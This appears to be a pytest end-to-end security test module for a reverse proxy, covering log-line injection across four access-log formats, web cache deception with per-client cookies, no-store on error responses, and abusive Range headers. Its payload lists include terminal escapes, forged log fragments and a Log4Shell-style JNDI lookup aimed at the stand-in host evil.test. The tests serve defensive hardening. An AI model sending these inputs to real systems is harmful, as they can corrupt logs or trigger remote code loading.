"""Attacks on what is kept: log lines that lie, answers that are shared, ranges that multiply."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.attackers import Asked, Front, Stage, Talk, ask, reply
from tests.e2e.peers import Certificate
from tests.e2e.programs import Programs, until

FORMATS = ("rpxy", "common", "combined", "json")


@pytest.fixture(scope="module")
def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("logs")


@pytest.fixture(scope="module")
def stage(lasting_programs: Programs, certificate: Certificate, logs: Path) -> Iterator[Stage]:
    apps = "".join(
        f'[apps.{kind}]\nserver_name = "{kind}.test"\n'
        f'access_log = {{ path = "{logs / kind}", format = "{kind}" }}\n'
        'reverse_proxy = [{ upstream = [{ location = "127.0.0.1:1" }] }]\n'
        for kind in FORMATS
    )
    made = Stage(lasting_programs, certificate, app="request_max_body_size = 1000", more=apps)
    yield made
    made.end()


@pytest.fixture(params=["clear", "tls"])
def front(request: pytest.FixtureRequest, stage: Stage) -> Front:
    stage.forget()
    chosen: Front = stage.fronts[request.param]
    return chosen


# -- log lines

NASTY = [
    b'" 200 1 "-" "forged',
    b"\\",
    b'\\"',
    b"a\tb",
    b"\x80\x85\x9b31m\xff",
    b"\xe2\x80\xa8\xe2\x80\xae",
    b"%0a%0d%1b[2J",
    b'{"status":200}',
    b"${jndi:ldap://evil.test}",
    b"x" * 20_000,
]
REFUSED = [b"\x1b[2J", b"a\nb", b"a\rb", b"\0"]
REQUEST, TEXT = r'"GET \S+ HTTP/1.1" 502 \d+', r'"[^"]*"'
LINES = {
    "rpxy": rf"[\d:.TZ-]+ rpxy.test <- 127\.0\.0\.1:\d+ -- GET \S+ HTTP/1.1 -- .* \S+ {TEXT}, {TEXT} {TEXT}",
    "common": rf"127\.0\.0\.1 - - \[[^]]+\] {REQUEST}",
    "combined": rf"127\.0\.0\.1 - - \[[^]]+\] {REQUEST} {TEXT} {TEXT}",
    "json": r"\{.*\}",
}


@pytest.mark.parametrize("kind", FORMATS)
def test_a_request_is_one_line_whatever_is_in_it(stage: Stage, logs: Path, kind: str) -> None:
    host = kind.encode() + b".test"
    for number, nasty in enumerate(NASTY):
        path = b"/%d?" % number + re.sub(rb"[^!-~]|#", b"", nasty)[:5000]
        data = ask(path, b"User-Agent: " + nasty, b"Referer: " + nasty, b"Connection: close", host=host)
        assert [answer.status for answer in stage.clear.say(data)] == [502]
    for nasty in REFUSED:
        stage.clear.say(ask(b"/refused", b"User-Agent: " + nasty, host=host))
        stage.clear.say(ask(b"/refused" + nasty, host=host))
    until(lambda: (logs / kind).read_bytes().count(b"\n") >= len(NASTY), "all lines")
    text = (logs / kind).read_bytes()
    assert not re.search(rb"[^ -~\n]", text)
    lines = text.decode("ascii").splitlines()
    assert len(lines) == len(NASTY)
    assert [line for line in lines if not re.fullmatch(LINES[kind], line)] == []
    assert max(map(len, lines)) < 5 * 4 * 2048
    if kind == "json":
        said = [json.loads(line)["user_agent"].encode("latin-1") for line in lines]
        assert said[:-1] == NASTY[:-1]
    assert not re.search(r"[^ -~\n\t]", stage.proxy.log)


# -- answers that are shared


def test_nothing_personal_is_kept_for_the_next_client(stage: Stage, front: Front) -> None:
    """A page that looks like a file, without a word about its freshness, is asked for each time."""

    def personal(talk: Talk, asked: Asked) -> None:
        talk.read_body(asked)
        talk.send(reply(b"for " + b"".join(asked.all(b"cookie"))))

    paths = [b"/account/x.css", b"/account;x.css", b"/account%2Fx.css", b"/account?x.css"]
    for path in paths:
        stage.a.replies[path] = personal
        for who in (b"victim", b"attacker", b"victim"):
            answer = front.get(path, b"Cookie: " + who)
            assert answer.body == b"for " + who
            assert answer.all(b"age") == answer.all(b"cache-control") == []
        assert stage.a.targets.count(path) == 3


LIMITS = {
    400: ask(b"/page", b"Content-Length: 1", b"Content-Length: 2"),
    404: ask(b"/page", b"Connection: close", host=b"nobody.test"),
    405: ask(b"/page", b"Connection: close", method=b"TRACE"),
    413: ask(b"/page", b"Content-Length: 1001"),
    414: ask(b"/page?" + b"x" * 8192),
    431: ask(b"/page", b"X: " + b"x" * 65536),
    501: ask(b"/page", b"Transfer-Encoding: gzip"),
    505: ask(b"/page").replace(b"1.1", b"1.7"),
}


@pytest.mark.parametrize("status", LIMITS)
def test_an_error_that_one_client_earns_is_not_the_answer_of_the_next(stage: Stage, status: int) -> None:
    (answer,) = stage.clear.say(LIMITS[status])
    assert answer.status == status
    assert stage.clear.get(b"/page").body == b"a.test /page"


def test_no_cache_in_front_keeps_an_error_that_one_client_has_earned(stage: Stage) -> None:
    """404, 405, 414 and 501 may be stored by whoever is not told otherwise (RFC 9110 §15.1)."""
    for data in LIMITS.values():
        (answer,) = stage.clear.say(data)
        assert answer.all(b"cache-control") == [b"no-store"]


# -- ranges

RANGES = [
    b"bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(1000)),
    b"bytes=" + b"0-," * 2000 + b"0-",
    b"bytes=-1,-2,-3",
    b"bytes=99999999999999999999999-",
    b"bytes=5-1",
    b"bytes=",
    b"bytes=0-0, ,,",
    b"lines=1-2",
    b"=",
    b"",
]


def test_ranges_are_the_origins_business_and_cost_nothing_here(stage: Stage, front: Front) -> None:
    part = reply(b"pa", b"Content-Range: bytes 0-1/4", status=b"206 Partial Content")

    def serve(talk: Talk, asked: Asked) -> None:
        talk.send(part if asked.all(b"range") else reply(b"page"))

    stage.a.replies[b"/part"] = serve
    before = stage.proxy.rss
    for value in RANGES:
        answer = front.get(b"/part", b"Range: " + value, b'If-Range: "x"')
        assert (answer.status, answer.body) == (206, b"pa")
        assert answer.all(b"content-range") == [b"bytes 0-1/4"]
        assert stage.a.last(b"/part").all(b"range") == [value]
        whole = front.get(b"/part")
        assert (whole.status, whole.body, whole.all(b"content-range")) == (200, b"page", [])
    assert stage.a.targets.count(b"/part") == 2 * len(RANGES)
    assert stage.proxy.rss - before < 4 << 20
